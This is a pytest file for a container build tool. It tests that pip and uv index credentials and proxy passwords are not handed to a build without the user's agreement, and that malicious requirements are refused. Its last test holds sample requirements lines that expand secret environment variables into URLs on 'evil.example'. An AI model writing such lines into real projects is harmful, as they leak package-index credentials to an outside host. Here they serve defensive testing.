"""A build gets no password and no network of its user before an agreement for this project and host."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.fake_engine import FakeEngine
from support.folders import plant

from caliban_ls.core.cancellation import CancelToken
from caliban_ls.core.errors import NotAgreed, UsageError
from caliban_ls.operations.context.context import Context
from caliban_ls.operations.local import image
from caliban_ls.operations.schemas import containers
from caliban_ls.runtime.engine import BuildInputs, ImagePlan
from caliban_ls.runtime.jobs import Report


class Builder(FakeEngine):
    """An engine that keeps what its builds get."""

    def __init__(self) -> None:
        super().__init__()
        self.lent: list[BuildInputs] = []

    def build(
        self,
        plan: ImagePlan,
        inputs: BuildInputs,
        *,
        no_cache: bool,  # noqa: ARG002 - every build is new
        report: Report,  # noqa: ARG002 - there is nothing to tell
        cancel: CancelToken,  # noqa: ARG002 - and nothing to wait for
    ) -> str:
        self.lent.append(inputs)
        return plan.tag


BUILD = containers.BuildArguments(module="train.py")


def context(folder: Path, engine: Builder, said: list[str], *, yes: bool, **environment: str) -> Context:
    def ask(question: str, _: str) -> bool:
        said.append(question)
        return yes

    return Context(
        folder=folder,
        engine=lambda: engine,
        ask=ask,
        environment={"CALIBAN_HOME": str(folder.parent / "state"), **environment},
    )


@pytest.mark.parametrize(
    "environment",
    [
        {"PIP_INDEX_URL": "https://me:planted@a.example/simple"},
        {"PIP_EXTRA_INDEX_URL": "https://planted@a.example/simple"},
        {"UV_INDEX": "a=https://me:planted@a.example/simple"},
        {"UV_INDEX_A_PASSWORD": "planted"},
        {"HTTPS_PROXY": "http://me:planted@a.example:3128"},
        {"HTTPS_PROXY": "http://127.0.0.1:3128"},
        {"PIP_INDEX_URL": "http://localhost:8080/simple"},
    ],
    ids=str,
)
def test_nothing_is_lent_before_an_agreement(environment: dict[str, str], tmp_path: Path) -> None:
    project = plant(tmp_path / "p", {"train.py": "", "requirements.txt": "six\n"})
    other = plant(tmp_path / "other", {"train.py": "", "requirements.txt": "six\n"})
    engine, said = Builder(), list[str]()
    with pytest.raises(NotAgreed):
        image.build(BUILD, context(project, engine, said, yes=False, **environment))
    assert len(said) == 1
    assert engine.lent == []
    assert "planted" not in said[0]
    image.build(BUILD, context(project, engine, said, yes=True, **environment))
    assert len(said) == 2
    image.build(BUILD, context(project, engine, said, yes=False, **environment))
    assert len(said) == 2, "a project is asked about once"
    assert len(engine.lent) == 2
    with pytest.raises(NotAgreed):
        image.build(BUILD, context(other, engine, said, yes=False, **environment))


def test_ordinary_settings_ask_nothing(tmp_path: Path) -> None:
    project = plant(tmp_path / "p", {"train.py": "", "requirements.txt": "six\n"})
    engine, said = Builder(), list[str]()
    environment = {"PIP_INDEX_URL": "https://a.example/simple", "HTTPS_PROXY": "http://b.example:3128"}
    image.build(BUILD, context(project, engine, said, yes=False, **environment))
    assert said == []
    assert len(engine.lent) == 1


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url http://evil.example/?u=${PIP_EXTRA_INDEX_URL}",
        "--find-links http://evil.example/${UV_INDEX_A_PASSWORD}/",
        "six @ https://evil.example/${PIP_INDEX_URL}/six.whl",
        "-i http://evil.example/\\\n${UV_DEFAULT_INDEX}",
    ],
)
@pytest.mark.parametrize("place", ["requirements.txt", "nested"])
def test_requirements_pass_on_no_setting(line: str, place: str, tmp_path: Path) -> None:
    files = (
        {"requirements.txt": line}
        if place != "nested"
        else {"requirements.txt": "-r more.txt", "more.txt": line}
    )
    project = plant(tmp_path / "p", {"train.py": "", **files})
    with pytest.raises(UsageError, match="may hold a password") as refused:
        image.build(BUILD, context(project, Builder(), [], yes=True))
    assert refused.value.hint
